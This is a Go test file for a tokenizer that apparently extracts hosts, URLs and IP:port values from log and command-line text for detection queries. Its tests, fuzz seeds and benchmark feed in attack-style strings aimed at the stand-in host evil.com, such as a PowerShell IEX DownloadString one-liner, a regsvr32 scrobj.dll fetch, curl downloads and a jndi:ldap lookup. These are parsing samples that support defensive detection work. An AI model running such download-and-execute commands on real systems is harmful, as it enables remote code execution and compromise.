package words_test

import (
	"bytes"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"foxhound/internal/words"
)

func all(text string) []string {
	var list []string
	for w := range words.All([]byte(text)) {
		list = append(list, string(w))
	}
	return list
}

func TestAll(t *testing.T) {
	for text, want := range map[string][]string{
		"":                           nil,
		"connect to evil.com failed": {"connect", "to", "evil.com", "failed"},
		"see http://evil.com/a?b=c&d=http://x.org/, please.":            {"see", "http://evil.com/a?b=c&d=http://x.org/", "please"},
		`curl.exe "https://evil.com:8443/x.php" -o C:\Temp\evil.com`:    {"curl.exe", "https://evil.com:8443/x.php", "-o", "C", `\Temp\evil.com`},
		`(New-Object Net.WebClient).DownloadString('http://evil.com/')`: {"New-Object", "Net.WebClient", ".DownloadString", "http://evil.com/"},
		"{jndi:ldap://evil.com:1389/a}":                                 {"jndi", "ldap://evil.com:1389/a"},
		"regsvr32 /s /u /i:http://evil.com/a.sct scrobj.dll":            {"regsvr32", "/s", "/u", "/i", "http://evil.com/a.sct", "scrobj.dll"},
		"dst:80.211.47.159:7582, src=10.0.0.1:5000.":                    {"dst", "80.211.47.159:7582", "src", "10.0.0.1:5000"},
		"80.211.47.159:758200 evil.com:443x evil.com.:80":               {"80.211.47.159:758200", "evil.com:443x", "evil.com.:80"},
		"10.0.0.1:5000->80.211.47.159:7582":                             {"10.0.0.1:5000", "-", "80.211.47.159:7582"},
		"outside:80.211.47.159/7582 (80.211.47.159/7582)":               {"outside", "80.211.47.159/7582", "80.211.47.159/7582"},
		"[2a02::1]:443 http://[2a02::1]:80/x [x]":                       {"[2a02::1]:443", "http://[2a02::1]:80/x", "x"},
		"::ffff:80.211.47.159:7582":                                     {"ffff", "80.211.47.159:7582"},
		"a:b:evil.com at 12:30:45":                                      {"a", "b", "evil.com", "at", "12", "30", "45"},
		"1.2.3.4.5 180.211.47.159 v80.211.47.159":                       {"1.2.3.4.5", "180.211.47.159", "v80.211.47.159"},
		"a-evil.com evil.com.evil.org xevil.com":                        {"a-evil.com", "evil.com.evil.org", "xevil.com"},
		"/usr/bin/evil.com ./evil.com a/evil.com":                       {"/usr/bin/evil.com", "./evil.com", "a", "/evil.com"},
		`System32\evil.com C:\\Windows\\evil.com`:                       {"System32", "C", "Windows"},
		`net use \\evil.com\share`:                                      {"net", "use", "evil.com"},
		"u=https%3A%2F%2Fevil.com":                                      {"u", "https%3A%2F%2Fevil.com"},
		"<bob@evil.com> mailto:bob@evil.com":                            {"bob@evil.com", "mailto", "bob@evil.com"},
		"GET /index.php?page=http://evil.com/x HTTP/1.1":                {"GET", "/index.php?page", "http://evil.com/x", "HTTP", "/1.1"},
		"(+http://evil.com/bot)":                                        {"+http", "//evil.com/bot"},
		"evil[.]com hxxp://evil.com":                                    {"evil", "[.]", "com", "hxxp://evil.com"},
		"SHA256=00ff,MD5:aa. **evil.com**":                              {"SHA256", "00ff", "MD5", "aa", "evil.com"},
		`\"http://evil.com/x\"`:                                         {`\`, "http://evil.com/x"},
		"bücher.example и пример.рф":                                    {"bücher.example", "и", "пример.рф"},
		"evil.com. Evil.com! evil.com ... evil.com?":                    {"evil.com", "Evil.com", "evil.com", "", "evil.com?"},
	} {
		if diff := cmp.Diff(want, all(text)); diff != "" {
			t.Errorf("%s (-want +got)\n%s", text, diff)
		}
	}
}

// A word is a part of its text, in time linear in it: as many bytes that begin words and are
// none take no longer a byte than few.
func TestHostile(t *testing.T) {
	for _, piece := range []string{":", "a:", "::", `\`, `\\`, "/", "[", "[a", "a.", ".", "//[", "1:1:", "@", "%", "é", "\xff", "a/b?"} {
		text := []byte(strings.Repeat(piece, 1<<20/len(piece)))
		n := 0
		for w := range words.All(text) {
			n += len(w)
		}
		if n > len(text) {
			t.Errorf("%q: words of %d bytes in a text of %d", piece, n, len(text))
		}
	}
}

func TestAllocatesNothing(t *testing.T) {
	text := []byte(strings.Repeat(`cmd /c curl "http://evil.com/x" -o C:\x [::1]:80 `, 100))
	if n := testing.AllocsPerRun(10, func() {
		for range words.All(text) {
		}
	}); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

var (
	pattern = regexp.MustCompile(words.Pattern)
	tail    = regexp.MustCompile(`(?:` + words.Tail + `)$`)
)

// twin is the slow way: what KQL does with the patterns.
func twin(text []byte) (list [][]byte) {
	for _, m := range pattern.FindAllSubmatch(text, -1) {
		list = append(list, m[1][:len(m[1])-len(tail.Find(m[1]))])
	}
	return list
}

func FuzzAll(f *testing.F) {
	for _, seed := range []string{
		"connect to evil.com:443.", `\\evil.com\share`, `\\\\`, "http://[::1]:80/x", "a://", "1:2:3", "::ffff:1.2.3.4", "::::", "a.b:80/c", "[::1", "[::1]?",
		"a.:b", "..", "/..", "//[::1]..", "-:80", "x.y:1234567", "é.com:8é", "\xff.com", "http:", "1:1:é", "a:b:c_", "1.1:1-.a", "a.b-:1", "\x00a\x7fb",
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		got, want := slices.Collect(words.All(text)), twin(text)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%q (-pattern +All)\n%s", text, diff)
		}
	})
}

// TestAgainstPattern holds the two equal over every short text of the bytes that matter.
func TestAgainstPattern(t *testing.T) {
	const alphabet = `a1./\:[ @-?=`
	var text []byte
	var grow func(n int)
	grow = func(n int) {
		if got, want := slices.Collect(words.All(text)), twin(text); !slices.EqualFunc(got, want, bytes.Equal) {
			t.Fatalf("%q: %q, the pattern %q", text, got, want)
		}
		for i := 0; n > 0 && i < len(alphabet); i++ {
			text = append(text, alphabet[i])
			grow(n - 1)
			text = text[:len(text)-1]
		}
	}
	grow(5)
}

func BenchmarkAll(b *testing.B) {
	text := []byte(strings.Repeat(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.com:8080/a/b.ps1?x=1')" C:\Users\bob\x.log `, 100))
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		for range words.All(text) {
		}
	}
}
